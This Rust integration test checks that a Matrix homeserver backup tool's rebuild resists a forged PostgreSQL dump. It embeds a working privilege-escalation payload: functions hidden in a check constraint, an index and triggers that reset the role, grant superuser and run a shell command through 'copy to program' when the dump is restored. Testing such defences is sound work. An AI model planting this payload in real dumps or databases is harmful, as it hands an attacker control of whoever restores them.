//! A dump that takes over whoever restores it: a check, an index and triggers give up the role that was set, and act as whoever
//! logged in. Restored as every guide has it, that is PostgreSQL's superuser; a rebuild restores it too, and it gains nothing.

use super::control::LIST;
use super::on;
use crate::homeserver::host::Homeserver;

const SPOOL: &str = "/var/spool/matrixform-backup";

/// What it tries, each on its own; `%` are for `format`.
const TRIED: &str = "'reset role', 'reset session authorization', 'create role trapped superuser',
    'alter role synapse_user superuser', 'copy (select 1) to program ''touch /var/tmp/trapped''',
    'alter database matrixform_rebuild set search_path = public, pg_catalog'";

/// Made while its function is harmless: this is done by a superuser, too.
fn trap(otherwise: &str) -> String {
    format!(
        "set role synapse_user;
        create function public.trap() returns boolean language sql as 'select true';
        create function public.trap_of(text) returns text immutable language sql as 'select $1';
        create function public.trap_on() returns trigger language plpgsql as 'begin perform public.trap(); return null; end';
        alter table users add constraint trap check (public.trap());
        create index trap on users (public.trap_of(name));
        create trigger trap before update on e2e_fallback_keys_json for each statement execute function public.trap_on();
        create trigger trap before truncate on e2e_one_time_keys_json for each statement execute function public.trap_on();
        create or replace function public.trap_of(text) returns text immutable language plpgsql as 'begin perform public.trap(); return $1; end';
        create or replace function public.trap() returns boolean language plpgsql as $trap$
            declare word text;
            begin
                foreach word in array array[{TRIED}] loop
                    begin execute word; exception when others then {otherwise}; end;
                end loop;
                return true;
            end $trap$;"
    )
}

/// Roles with more rights than before, and what a program left.
const GAINED: &str = "cd /; runuser -u postgres -- psql -XAtqc \"select rolname from pg_roles where rolsuper and rolname <> 'postgres'
    or rolname in ('trapped', 'matrix-synapse') order by 1\"; find /var/tmp -name trapped";

/// On a host that has the dump of the backup in `/root/plain`, and a server that can be lost.
pub(super) fn gains_nothing(new: &Homeserver) {
    // As a version left it that restored as the superuser.
    new.guest.run(
        "systemctl stop matrix-synapse; sed -i /matrixform_rebuild/d /etc/postgresql/*/main/pg_hba.conf
        systemctl reload 'postgresql@*'",
    );
    let silent = forged(new, "null");
    by_hand(new);
    let loud = forged(new, "raise");
    let rebuilds = |id: &str, status: i32| {
        let words = ["--snapshot", id, "--replace-database", "hs.test", "--yes"];
        let words = [&words[..], &["--old-server", "destroyed"]].concat();
        let ran = on(&new.guest, &["rebuild"], &new.spec, &words, status);
        assert_eq!(new.guest.run(GAINED), "", "{ran}");
        ran
    };
    let ran = rebuilds(&loud, 3);
    assert!(format!("{ran}").contains("the dump cannot be restored"), "{ran}");
    let left = "select datname from pg_database where datname = 'matrixform_rebuild'";
    assert_eq!(new.sql(left), "");
    rebuilds(&silent, 0);
    // It was all restored, belongs to Synapse's role, and has set nothing for those who connect.
    assert_eq!(new.sql("select count(*) from pg_trigger where tgname = 'trap'"), "2\n");
    let others = "select relname, relowner::regrole from pg_class where relnamespace = 'public'::regnamespace
        and relowner <> 'synapse_user'::regrole union all select proname, proowner::regrole from pg_proc
        where pronamespace = 'public'::regnamespace and proowner <> 'synapse_user'::regrole
        union all select datname, datdba::regrole from pg_database where datname = 'synapse' and datdba <> 'synapse_user'::regrole
        union all select 'a setting', setrole::regrole from pg_db_role_setting";
    assert_eq!(new.sql(others), "");
}

/// A snapshot with a forged dump and the manifest of the backup.
fn forged(new: &Homeserver, otherwise: &str) -> String {
    new.guest.write("/root/trap.sql", &trap(otherwise));
    let id = new.guest.run(&format!(
        "set -e; cd /
        as() {{ runuser -u postgres -- \"$@\"; }}
        as createdb -T template0 -O synapse_user -E UTF8 --locale C trap
        {LIST}
        as pg_restore --no-owner --no-privileges --role=synapse_user --no-tablespaces --exit-on-error -L /tmp/list -d trap </root/plain{SPOOL}/database.dump
        as psql -XAtq -v ON_ERROR_STOP=1 -d trap </root/trap.sql
        mkdir -p {SPOOL}
        as pg_dump -Fc -Z0 trap >{SPOOL}/database.dump
        as dropdb trap
        cp /root/plain{SPOOL}/manifest.json {SPOOL}
        export RESTIC_PASSWORD=CANARY-lost-7Hq RESTIC_REPOSITORY=/srv/lost RESTIC_CACHE_DIR=/root/cache
        restic backup --json --host hs.test --tag matrixform {SPOOL} | sed -n 's/.*\"snapshot_id\":\"\\([0-9a-f]\\{{8\\}}\\).*/\\1/p'"
    ));
    assert_eq!(new.guest.run(GAINED), "", "the forger is no superuser");
    id.trim().to_owned()
}

/// The trap works: as a superuser that takes the role of the owner restores the last one, it has the host.
fn by_hand(new: &Homeserver) {
    new.guest.run(&format!(
        "set -e; cd /
        as() {{ runuser -u postgres -- \"$@\"; }}
        as createdb -T template0 -O synapse_user -E UTF8 --locale C trap
        as pg_restore --no-owner --no-privileges --role=synapse_user --exit-on-error -d trap <{SPOOL}/database.dump
        as dropdb trap"
    ));
    assert_eq!(new.guest.run(GAINED), "synapse_user\ntrapped\n/var/tmp/trapped\n");
    new.guest.run(
        "set -e; cd /; rm /var/tmp/trapped
        runuser -u postgres -- psql -Xqc 'alter role synapse_user nosuperuser' -c 'drop role trapped'",
    );
    assert_eq!(new.guest.run(GAINED), "");
}
